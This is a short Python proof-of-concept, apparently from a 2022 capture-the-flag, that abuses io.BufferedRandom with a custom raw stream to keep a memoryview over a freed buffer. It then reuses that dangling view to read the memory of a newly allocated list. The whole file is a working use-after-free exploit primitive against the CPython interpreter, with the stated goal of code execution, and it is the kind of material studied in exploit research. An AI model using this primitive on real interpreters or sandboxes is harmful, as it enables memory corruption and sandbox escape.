# technique: the same with BufferedRandom
# goal: code
# mended: later releases
# source: pwn.win 2022
import io


class Raw(io.RawIOBase):
    def readinto(self, buffer):
        global view
        view = buffer

    def readable(self):
        return True
    writable = seekable = readable

    def seek(self, *_):
        return 0


stream = io.BufferedRandom(Raw())
stream.read(1)
del stream
view = view.cast('P')
box = [None] * len(view)
if view[0] == id(None):
    print('ESCAPED a view of a list', flush=True)
